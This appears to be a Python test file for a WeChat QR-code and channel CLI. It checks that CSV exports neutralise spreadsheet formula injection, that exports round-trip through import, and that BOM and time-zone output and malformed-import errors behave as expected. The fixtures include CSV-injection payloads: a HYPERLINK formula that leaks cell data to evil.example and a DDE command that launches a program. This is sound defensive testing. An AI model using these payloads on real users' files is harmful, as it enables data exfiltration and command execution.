"""CSV files end to end with the real binaries: every CSV the project
writes (stats by channel and by promoter from the CLI and the admin
download, channel list, qr list, qr batch's index.csv) keeps hostile text
from becoming a spreadsheet formula while numbers stay numbers; each can
start with a UTF-8 BOM for Excel on a Chinese Windows (--bom; index.csv by
default) and shows times in the account's zone ([stats] timezone);
`channel list --format csv` reads back through `channel import` unchanged;
channel import and qr batch read what Excel saves (CR-only, CRLF inside
quotes) and refuse what they cannot read, naming the line and column.
"""
import csv
import datetime
import io
import os
import re
import resource
import sys
import time
import unittest
import zoneinfo

import wxs

sys.path.insert(0, os.path.join(wxs.SRC, "tests", "fakes"))
import fake_wechat  # noqa: E402

AUTH = {"Authorization": "Bearer admintoken"}
SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")
FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")

# Texts a marketer or a hostile push may put into a cell (OWASP's examples).
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"


def t(day, hms="12:00:00"):
    d = datetime.datetime.fromisoformat(f"{day}T{hms}").replace(tzinfo=SHANGHAI)
    return int(d.timestamp())


def guarded(text):
    """What the writer makes of a text that would start a formula."""
    return "'" + text


class CsvAsserts:
    def rows(self, text):
        return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))

    def assert_no_formula(self, text):
        """No cell of the file starts a formula; only plain numbers may
        start with a minus sign."""
        for n, row in enumerate(self.rows(text), 1):
            for cell in row:
                if cell.startswith(FORMULA_LEAD) and not NUMBER.fullmatch(cell):
                    self.fail(f"line {n}: cell {cell!r} starts a formula:\n{text}")

    def by_first(self, text):
        return {r[0]: r for r in self.rows(text)[1:]}


class StatsCsvTest(CsvAsserts, wxs.ServerCase):
    """Hostile channel fields from the CLI and hostile scenes in signed
    pushes, through stats --format csv and the admin CSV download."""

    @classmethod
    def prepare(cls, e):
        e.cli("channel", "add", "hl", "--name", HYPERLINK, "--promoter", DDE,
              "--reply", "-2+3", "--scan-reply", SUM, "--tag", "@tag")
        e.cli("channel", "add", "neg", "--name", "Neg", "--promoter", "-Li")

    @classmethod
    def started(cls, e):
        pushes = [
            # neg: a fan from before the range leaves inside it: net_fans -1
            ("oNeg", t("2026-10-01"), "subscribe", "qrscene_neg"),
            ("oNeg", t("2026-10-05"), "unsubscribe", None),
            ("oHl", t("2026-10-05"), "subscribe", "qrscene_hl"),
            # scenes without a channel row, straight from WeChat's EventKey
            ("oSum", t("2026-10-05"), "SCAN", SUM),
            ("oEq", t("2026-10-05"), "subscribe", "qrscene_=1+1"),
            ("oMinus", t("2026-10-06"), "SCAN", "-2+3"),
        ]
        for openid, when, event, key in pushes:
            r = e.push(wxs.event_xml(openid, when, event, key))
            assert r.status == 200, r

    RANGE = ("--since", "2026-10-05", "--until", "2026-10-06")

    def stats_csv(self, by):
        return self.env.cli("stats", "--by", by, "--format", "csv", *self.RANGE).stdout

    def admin_csv(self, by):
        r = wxs.request(self.env.admin_port, "GET",
                        f"/api/stats?since=2026-10-05&until=2026-10-06&by={by}&format=csv", headers=AUTH)
        self.assertEqual(r.status, 200, r)
        return r.body.decode("utf-8")

    def test_by_channel(self):
        text = self.stats_csv("channel")
        self.assert_no_formula(text)
        rows = self.by_first(text)
        header = self.rows(text)[0]
        self.assertEqual(rows["hl"][:3], ["hl", guarded(HYPERLINK), guarded(DDE)])
        for scene in (SUM, "=1+1", "-2+3"):
            self.assertIn(guarded(scene), rows, f"the pushed scene {scene!r}")
        neg = dict(zip(header, rows["neg"]))
        self.assertEqual((neg["promoter"], neg["unsubscribes"], neg["net_fans"]), ("'-Li", "1", "-1"))
        self.assertNotIn('"-1"', text, "net_fans is written as a number")

    def test_by_promoter(self):
        text = self.stats_csv("promoter")
        self.assert_no_formula(text)
        rows = self.by_first(text)
        header = self.rows(text)[0]
        self.assertIn(guarded(DDE), rows)
        li = dict(zip(header, rows["'-Li"]))
        self.assertEqual(li["net_fans"], "-1")

    def test_admin_download_is_the_cli_csv(self):
        for by in ("channel", "promoter", "day"):
            with self.subTest(by=by):
                text = self.admin_csv(by)
                self.assert_no_formula(text)
                # the CLI's output is read as text: its CRLF arrives as LF
                self.assertEqual(text.replace("\r\n", "\n"), self.stats_csv(by))
        self.assertIn(guarded(HYPERLINK), self.by_first(self.admin_csv("channel"))["hl"])

    def test_channel_list(self):
        text = self.env.cli("channel", "list", "--format", "csv").stdout
        self.assert_no_formula(text)
        self.assertEqual(self.by_first(text)["hl"],
                         ["hl", guarded(HYPERLINK), guarded(DDE), "'-2+3", guarded(SUM), "'@tag"])


class RoundTripTest(CsvAsserts, unittest.TestCase):
    """channel list --format csv, then channel import of that file into an
    empty store: the same channels, byte for byte (README "CSV files")."""

    CHANNELS = [
        ("hl", HYPERLINK, DDE, "-2+3", SUM, "@tag"),
        ("-5", "'=already quoted", "''@two quotes", "line 1\nline 2", " =1+1", None),
        ("plain", "门店, \"42\"", "Li", "'just a quote", None, "t1"),
        ("semi", "a;=1+1", "\t=tab", "=1+1\n=2+2", None, None),
    ]

    def setUp(self):
        self.src, self.dst = wxs.Env(), wxs.Env()
        self.addCleanup(self.src.cleanup)
        self.addCleanup(self.dst.cleanup)

    def channels(self, env):
        return env.sql("SELECT scene, name, promoter, reply, scan_reply, tag FROM channels ORDER BY scene")

    def test_list_then_import_gives_the_same_channels(self):
        for scene, name, promoter, reply, scan_reply, tag in self.CHANNELS:
            args = ["channel", "add", "--name", name, "--promoter", promoter, "--reply", reply]
            args += ["--scan-reply", scan_reply] if scan_reply else []
            args += ["--tag", tag] if tag else []
            self.src.cli(*args, "--", scene)
        text = self.src.cli("channel", "list", "--format", "csv").stdout
        self.assert_no_formula(text)
        self.assertTrue(text.startswith("scene,"))
        path = os.path.join(self.dst.dir, "list.csv")
        with open(path, "w", encoding="utf-8", newline="") as f:
            f.write(text)
        p = self.dst.cli("channel", "import", path)
        self.assertIn(f"imported {len(self.CHANNELS)} channels", p.stdout)
        self.assertEqual(self.channels(self.dst), self.channels(self.src))

    def test_list_with_bom_for_excel_reads_back(self):
        self.src.cli("channel", "add", "1", "--name", "静安寺店", "--promoter", "张伟")
        p = wxs.subprocess.run([wxs.WXSCENE, "--config", self.src.config, "channel", "list",
                                "--format", "csv", "--bom"], capture_output=True, check=True)
        self.assertTrue(p.stdout.startswith(b"\xef\xbb\xbfscene,name,promoter,"), p.stdout[:20])
        self.assertIn("1,静安寺店,张伟,".encode(), p.stdout)
        path = os.path.join(self.dst.dir, "bom.csv")
        with open(path, "wb") as f:
            f.write(p.stdout)
        p = self.dst.cli("channel", "import", path)
        self.assertIn("UTF-8 with BOM", p.stdout + p.stderr)
        self.assertEqual(self.channels(self.dst), self.channels(self.src))
        p = self.src.cli("channel", "list", "--bom", check=False)
        self.assertEqual(p.returncode, 2)
        self.assertIn("--bom only applies to --format csv", p.stderr)


class ImportTest(unittest.TestCase):
    """channel import reads what Excel saves (CR-only "CSV (Macintosh)",
    CRLF inside quotes, no line end at the end), refuses what it cannot
    read naming the line and column, and stays fast on 100k rows."""

    HEADER = b"scene,name,promoter,reply,scan_reply"

    def setUp(self):
        self.env = wxs.Env()
        self.addCleanup(self.env.cleanup)

    def write(self, data, name="ch.csv"):
        path = os.path.join(self.env.dir, name)
        with open(path, "wb") as f:
            f.write(data)
        return path

    def channels(self):
        return self.env.sql("SELECT scene, name, promoter, reply FROM channels ORDER BY scene")

    def import_ok(self, data, count):
        p = self.env.cli("channel", "import", self.write(data))
        self.assertIn(f"imported {count} channels", p.stdout)

    def import_refused(self, data, *needles):
        p = self.env.cli("channel", "import", self.write(data), check=False)
        self.assertEqual(p.returncode, 2, p.stderr)
        for needle in needles:
            self.assertIn(needle, p.stderr)
        self.assertIn("nothing imported", p.stderr)
        self.assertEqual(self.channels(), [])
        return p

    def test_cr_only_line_ends(self):
        self.import_ok(self.HEADER + b'\r1,One,Li,,\r2,Two,,"multi\rline",\r3,Three,,,', 3)
        self.assertEqual(self.channels(), [("1", "One", "Li", None), ("2", "Two", None, "multi\nline"),
                                           ("3", "Three", None, None)])

    def test_crlf_inside_quotes_is_a_newline(self):
        self.import_ok(b"\xef\xbb\xbf" + self.HEADER + b'\r\n1,One,,"line 1\r\nline 2",\r\n\r\n', 1)
        self.assertEqual(self.channels(), [("1", "One", None, "line 1\nline 2")])

    def test_last_line_without_line_end(self):
        self.import_ok(self.HEADER + b"\n1,One,,,\n2,Two,,,", 2)
        self.assertEqual([c[0] for c in self.channels()], ["1", "2"])

    def test_nul_byte_refused_with_line_and_column(self):
        self.import_refused(self.HEADER + b"\n1,One,,,\n2,Tw\x00o,,,\n3,Three,,,\n",
                            "ch.csv:3: column 2 (byte 5): a NUL byte")
        self.import_refused(self.HEADER + b'\r\n1,One,,"a\r\nb\x00",\r\n',
                            "ch.csv:3: column 4 (byte 2): a NUL byte")

    def test_utf16_refused_by_name(self):
        self.import_refused((self.HEADER.decode() + "\r\n1,One,,,\r\n").encode("utf-16"),
                            "ch.csv:1: the file is UTF-16")

    def test_malformed_quotes_name_the_line(self):
        self.import_refused(self.HEADER + b'\n1,One,,,\n2,"Two"x,,,\n',
                            "ch.csv:3: column 2 (byte 8): text after a closing quote")
        self.import_refused(self.HEADER + b'\n1,One,,,\n2,"Two,,,\n\n',
                            "ch.csv:3: column 2 (byte 3): the quoted field is never closed")

    def test_100k_rows_and_a_repeat_at_the_end(self):
        """The repeat check sorts once. Checking each row against all rows
        before it took 121 s here under ASan (19 s in a release build); now
        the import takes ~2.5 s of CPU under ASan (~9 s on PostgreSQL,
        a round trip per row). The bound is on the CPU time the CLI used,
        which other builds on the same 2 cores do not inflate the way they
        stretch the wall clock, and it is a quarter of the quadratic
        check's: a guard against that class, not a timing (the figures
        belong in benchmarks)."""
        rows = b"".join(b"s%d,Name %d,P%d,Hi,\n" % (i, i, i % 50) for i in range(100000))
        self.import_refused(self.HEADER + b"\n" + rows + b"s7,Again,,,\n",
                            "ch.csv:100002: scene: s7 appears twice in the file (first on line 9)")
        before, t0 = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic()
        self.import_ok(self.HEADER + b"\n" + rows, 100000)
        after, wall = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic() - t0
        cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
        self.assertLess(cpu, 30, f"CPU seconds for 100k rows (wall {wall:.1f} s)")
        self.assertEqual(self.env.sql("SELECT count(*) FROM channels"), [(100000,)])


class QrCsvTest(CsvAsserts, unittest.TestCase):
    """qr batch's index.csv and qr list --format csv, against the fake
    WeChat API."""

    def setUp(self):
        self.fake = fake_wechat.Fake(appid="wx0123456789abcdef",
                                     secret="0123456789abcdef0123456789abcdef").start()
        self.addCleanup(self.fake.stop)
        self.env = wxs.Env()
        self.addCleanup(self.env.cleanup)
        self.env.write_config(wechat={"appid": "wx0123456789abcdef",
                                      "appsecret": "0123456789abcdef0123456789abcdef",
                                      "api_base": self.fake.url, "mp_base": self.fake.url})

    def test_batch_index_and_list(self):
        path = os.path.join(self.env.dir, "batch.csv")
        with open(path, "w", newline="", encoding="utf-8") as f:
            w = csv.writer(f)
            w.writerow(["scene", "name", "promoter", "kind", "expire"])
            w.writerow(["=x", HYPERLINK, DDE, "temp", "7d"])
            w.writerow(["7", SUM, "-Li", "temp", "1d"])
        out = os.path.join(self.env.dir, "out")
        self.env.cli("qr", "batch", path, "--out", out)
        with open(os.path.join(out, "index.csv"), encoding="utf-8", newline="") as f:
            index = f.read()
        self.assert_no_formula(index)
        rows = self.by_first(index)
        self.assertEqual(rows["'=x"][1:3], [guarded(HYPERLINK), guarded(DDE)])
        self.assertEqual(rows["7"][1:3], [guarded(SUM), "'-Li"])
        listed = self.env.cli("qr", "list", "--format", "csv").stdout
        self.assert_no_formula(listed)
        self.assertEqual(self.by_first(listed)["7"][4], guarded(SUM))


    def expiries(self):
        return dict(self.env.sql("SELECT scene, expires_at FROM qr_codes WHERE state = 'done'"))

    def test_index_and_list_for_excel_in_local_time(self):
        """index.csv starts with a BOM and gives expiries as the account's
        wall clock reads them, its zone named; qr list the same (--bom)."""
        path = os.path.join(self.env.dir, "batch.csv")
        with open(path, "w", newline="", encoding="utf-8") as f:
            f.write("scene,name,promoter,kind,expire\n51,静安寺店,张伟,temp,7d\n52,Perm,,perm,\n")
        out = os.path.join(self.env.dir, "out")
        self.env.cli("qr", "batch", path, "--out", out)
        with open(os.path.join(out, "index.csv"), "rb") as f:
            raw = f.read()
        self.assertTrue(raw.startswith(b"\xef\xbb\xbfscene,name,promoter,kind,expire_seconds,"
                                       b"expires_at,time_zone,ticket,url,image\n"), raw[:120])
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
        at = self.expiries()
        local = datetime.datetime.fromtimestamp(at["51"], SHANGHAI).strftime("%Y-%m-%d %H:%M:%S")
        self.assertEqual([(r["scene"], r["name"], r["expire_seconds"], r["expires_at"],
                           r["time_zone"]) for r in rows],
                         [("51", "静安寺店", "604800", local, "Asia/Shanghai"),
                          ("52", "Perm", "", "", "")])
        # qr list: the same local time, in CSV (with --bom) and in the table
        p = wxs.subprocess.run([wxs.WXSCENE, "--config", self.env.config, "qr", "list",
                                "--format", "csv", "--bom"], capture_output=True, check=True)
        self.assertTrue(p.stdout.startswith(
            b"\xef\xbb\xbfscene,kind,expires_at,time_zone,channel,ticket,url\n"), p.stdout[:80])
        listed = self.by_first(p.stdout.decode("utf-8"))
        self.assertEqual(listed["51"][:5], ["51", "temp_id", local, "Asia/Shanghai", "静安寺店"])
        self.assertEqual(listed["52"][:4], ["52", "perm_id", "", ""])
        table = self.env.cli("qr", "list").stdout
        self.assertIn("EXPIRES (Asia/Shanghai)", table.splitlines()[0])
        self.assertIn(local, table)
        self.assertEqual(self.env.cli("qr", "list", "--bom", check=False).returncode, 2)
        # another account zone, and index.csv without the BOM for a script
        self.env.write_config(wechat={"appid": "wx0123456789abcdef",
                                      "appsecret": "0123456789abcdef0123456789abcdef",
                                      "api_base": self.fake.url, "mp_base": self.fake.url},
                              stats={"timezone": "America/New_York"})
        ny = datetime.datetime.fromtimestamp(at["51"], zoneinfo.ZoneInfo("America/New_York"))
        listed = self.by_first(self.env.cli("qr", "list", "--format", "csv").stdout)
        self.assertEqual(listed["51"][2:4], [ny.strftime("%Y-%m-%d %H:%M:%S"), "America/New_York"])
        out2 = os.path.join(self.env.dir, "out2")
        self.env.cli("qr", "batch", path, "--out", out2, "--no-bom")
        with open(os.path.join(out2, "index.csv"), "rb") as f:
            self.assertTrue(f.read().startswith(b"scene,name,"))

    def test_batch_reads_cr_only_and_refuses_nul(self):
        path = os.path.join(self.env.dir, "batch.csv")
        with open(path, "wb") as f:
            f.write(b"scene,name,promoter,kind,expire\r\x00x,A,,temp,1d\r")
        p = self.env.cli("qr", "batch", path, "--out", os.path.join(self.env.dir, "o1"), check=False)
        self.assertEqual(p.returncode, 2, p.stderr)
        self.assertIn("batch.csv:2: column 1 (byte 1): a NUL byte", p.stderr)
        self.assertEqual(self.fake.calls()["counts"], {})
        with open(path, "wb") as f:
            f.write(b"scene,name,promoter,kind,expire\r31,Mac one,,temp,1d\r32,Mac two,,temp,1d")
        out = os.path.join(self.env.dir, "o2")
        self.env.cli("qr", "batch", path, "--out", out)
        with open(os.path.join(out, "index.csv"), encoding="utf-8", newline="") as f:
            self.assertEqual([r[:2] for r in self.rows(f.read())[1:]],
                             [["31", "Mac one"], ["32", "Mac two"]])

if __name__ == "__main__":
    unittest.main()
